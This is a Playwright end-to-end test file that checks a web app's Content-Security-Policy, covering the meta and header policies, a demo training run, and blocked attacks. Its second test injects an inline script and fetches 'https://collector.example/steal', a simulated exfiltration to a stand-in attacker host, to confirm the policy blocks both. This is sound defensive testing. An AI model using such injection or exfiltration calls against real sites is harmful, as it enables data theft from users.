import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { waitForGpu } from './support/model-panel';
import { openStep } from './support/shell';
import { returningUserContext } from './support/context';
import { useHarness } from './support/harness';

const harness = useHarness();

declare global {
  var cspViolations: string[];
}

/** Records every Content-Security-Policy violation of the page (its worker runs without a policy: vite.config.ts says why). */
function recordViolations(): void {
  globalThis.cspViolations = [];
  document.addEventListener('securitypolicyviolation', (e) => {
    // The preview server sends the policy as a header too; each policy reports what it blocks.
    const policy = e.originalPolicy.includes('frame-ancestors') ? 'header' : 'meta';
    globalThis.cspViolations.push(`${e.effectiveDirective} blocked ${e.blockedURI} (${policy})`);
  });
}

interface PolicedPage {
  readonly context: BrowserContext;
  readonly page: Page;
  readonly headerPolicy: string | undefined;
  /** The page's uncaught errors and console errors. */
  readonly errors: string[];
  violations(): Promise<string[]>;
}

async function openPoliced(): Promise<PolicedPage> {
  const context = await returningUserContext(harness.browser);
  await context.addInitScript(recordViolations);
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('console', (m) => {
    if (m.type() === 'error') errors.push(m.text());
  });
  const response = await page.goto(harness.server.url);
  await waitForGpu(page);
  return { context, page, headerPolicy: response?.headers()['content-security-policy'], errors, violations: () => page.evaluate(() => globalThis.cspViolations) };
}

describe("the built page's Content-Security-Policy", () => {
  it("is in the page and in the preview server's header; the theme script, the demo model, a training run's charts and every step work under it with no violation", async () => {
    const { context, page, headerPolicy, errors, violations } = await openPoliced();
    try {
      const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'));
      expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-[A-Za-z0-9+/]{43}='; style-src 'self';/);
      expect(policy).toContain("connect-src 'self' https://huggingface.co https://*.hf.co https://datasets-server.huggingface.co");
      expect(policy).toContain("object-src 'none'; base-uri 'self'");
      expect(headerPolicy).toBe(`${policy}; frame-ancestors 'none'`);
      // The inline theme script ran: its hash in the policy is the one of the built page.
      expect(await page.evaluate(() => document.documentElement.dataset.theme)).toMatch(/^(light|dark)$/);

      await page.getByRole('button', { name: 'Load the demo model (random weights)' }).click();
      await page.getByTestId('model-summary').waitFor({ timeout: 60_000 });
      await openStep(page, 'Data');
      await openStep(page, 'Train');
      await page.getByLabel('Training steps').fill('1');
      await page.getByLabel('Pseudo-batch (prompts per step)').fill('2');
      await page.getByLabel('Micro-batch (prompts per GPU pass)').fill('2');
      await page.getByLabel('Test queries (evaluation)').fill('2');
      await page.getByLabel('Evaluate before and after').setChecked(false);
      await page.getByRole('button', { name: 'Start training' }).click();
      await expect.poll(() => page.getByTestId('training-progress').getAttribute('data-state'), { timeout: 120_000 }).toBe('done');
      expect(await page.locator('.recharts-surface').count()).toBeGreaterThan(0);
      await openStep(page, 'Explore');

      expect(await violations()).toEqual([]);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  it('blocks an injected inline script and a connection to another server, and reports both', async () => {
    const { context, page, errors, violations } = await openPoliced();
    try {
      const ran = await page.evaluate(async () => {
        const script = document.createElement('script');
        script.textContent = 'globalThis.injectedScriptRan = true;';
        document.head.append(script);
        await new Promise((resolve) => setTimeout(resolve, 100));
        return (globalThis as { injectedScriptRan?: boolean }).injectedScriptRan ?? false;
      });
      expect(ran).toBe(false);
      const fetched = await page.evaluate(() => fetch('https://collector.example/steal').then(
        () => 'sent',
        (e: Error) => e.message,
      ));
      expect(fetched).toBe('Failed to fetch');
      await expect.poll(async () => (await violations()).sort()).toEqual([
        'connect-src blocked https://collector.example/steal (header)',
        'connect-src blocked https://collector.example/steal (meta)',
        'script-src-elem blocked inline (header)',
        'script-src-elem blocked inline (meta)',
      ]);
      expect(errors.filter((e) => !/Content Security Policy/.test(e))).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
